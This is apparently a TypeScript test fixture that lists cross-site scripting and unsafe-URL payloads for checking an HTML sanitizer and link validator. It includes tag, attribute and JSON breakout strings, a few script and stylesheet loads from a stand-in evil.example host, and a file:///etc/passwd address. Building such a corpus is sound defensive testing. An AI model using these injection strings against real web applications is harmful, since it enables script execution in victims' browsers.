/** Hostile strings, by the context that they try to leave. Each would set `window.pwned` or call `alert`. */

const tags = [
  '<script>window.pwned=1</script>', '<ScRiPt>window.pwned=1</sCrIpT>', '</title><script>window.pwned=1</script>', '</style><script>window.pwned=1</script>',
  '</textarea><script>window.pwned=1</script>', '--><script>window.pwned=1</script>', ']]><script>window.pwned=1</script>', '</bdi></h1></main><script>window.pwned=1</script>',
  '<script src=//evil.example/x.js></script>', '<script\x0csrc="data:,window.pwned=1"></script>', '<img src=x onerror=window.pwned=1>', '<img/src=x/onerror=window.pwned=1>',
  '<svg onload=window.pwned=1>', '<svg/onload=window.pwned=1//', '<svg><script>window.pwned=1</script>', '<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>',
  '<math><mtext></p><script>window.pwned=1</script>', '<math><mi//xlink:href="data:x,<script>window.pwned=1</script>">', '<body onload=window.pwned=1>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>', '<iframe src=javascript:window.pwned=1>', '<object data="javascript:window.pwned=1">', '<embed src=javascript:window.pwned=1>',
  '<video><source onerror=window.pwned=1>', '<audio src=x onerror=window.pwned=1>', '<details open ontoggle=window.pwned=1>', '<input autofocus onfocus=window.pwned=1>',
  '<select autofocus onfocus=window.pwned=1>', '<marquee onstart=window.pwned=1>', '<form action=//evil.example><button>', '<form id=x></form><button form=x formaction=javascript:alert(1)>',
  '<base href=//evil.example/>', '<meta http-equiv=refresh content="0;url=javascript:window.pwned=1">', '<link rel=stylesheet href=//evil.example/x.css>', '<style>@import"//evil.example"</style>',
  '<template><script>window.pwned=1</script></template>', '<noscript><p title="</noscript><script>window.pwned=1</script>">', '<plaintext>', '<!--', '<![CDATA[', '<?xml version="1.0"?>', '</', '<', '<x', '<x/',
  '<\0script>window.pwned=1</script>', '\u003cscript\u003ewindow.pwned=1\u003c/script\u003e', '\uff1cscript\uff1ewindow.pwned=1', '+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-',
];

const attributes = [
  '"', "'", '`', '" onfocus=window.pwned=1 autofocus x="', "' onfocus=window.pwned=1 autofocus x='", '"><script>window.pwned=1</script>', "'><script>window.pwned=1</script>",
  '" onmouseover="window.pwned=1', '" style="position:fixed;inset:0" onclick="window.pwned=1', '"/><img src=x onerror=window.pwned=1>', '"\tonload=window.pwned=1\t"', '"\nautofocus\nonfocus=window.pwned=1\n"',
  '" formaction="javascript:window.pwned=1', '" type="image" src=x onerror="window.pwned=1', '&quot; onfocus=window.pwned=1 &quot;', '&#34;&#62;&#60;script&#62;window.pwned=1', '&lt;script&gt;window.pwned=1&lt;/script&gt;', '&', '&amp', '&#0;', '&#x3c;img src=x onerror=alert(1)&#x3e;',
  'x\r\nSet-Cookie: a=b\r\n\r\n<script>window.pwned=1</script>', '\0', '\ufeff<script>window.pwned=1</script>', '\u202e<script>window.pwned=1</script>', '\ud800',
];

const json = [
  '</script><script>window.pwned=1</script>', '{"a":"</script><script>window.pwned=1</script>"}', '"};window.pwned=1;//', "';window.pwned=1;//", '\\";window.pwned=1;//', '${window.pwned=1}', '`${window.pwned=1}`',
  '\u2028window.pwned=1\u2029', '{{constructor.constructor("window.pwned=1")()}}', '<%= window.pwned=1 %>', '#{window.pwned=1}', '__proto__', 'constructor', 'toString',
  '{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=window.pwned=1>"}},"__v":1}',
];

/** Addresses that must not become a link or a form's target. */
export const forbiddenAddresses = [
  'javascript:window.pwned=1', 'JaVaScRiPt:window.pwned=1', ' javascript:window.pwned=1', '\tjavascript:window.pwned=1', 'java\tscript:window.pwned=1', 'java\nscript:window.pwned=1', '\x01javascript:window.pwned=1',
  'javascript://host.example/%0awindow.pwned=1', 'javascript&colon;window.pwned=1', 'data:text/html,<script>window.pwned=1</script>', 'data:text/html;base64,PHNjcmlwdD4=', 'vbscript:msgbox(1)', 'blob:https://evil.example/1',
  'file:///etc/passwd', 'view-source:https://evil.example', 'intent://x#Intent;end', 'mailto:a@b.example', 'ftp://evil.example/', '//evil.example', '///evil.example', '/\\evil.example', '\\\\evil.example', '/\t/evil.example',
  '/\n/evil.example', 'https:evil.example', 'https:/evil.example', 'https:\\\\evil.example', 'https://ok.example@evil.example', 'https://ok.example\\@evil.example', 'https://user:pass@evil.example/', 'https://ok.example/\r\nX: y',
  'https://ok .example', 'https://', 'http://[', 'https://%', 'evil.example', 'evil', '', ' ', '.', '#', '?x', 'https://ok.example\0',
];

export const payloads: readonly string[] = [...tags, ...attributes, ...json, ...forbiddenAddresses];
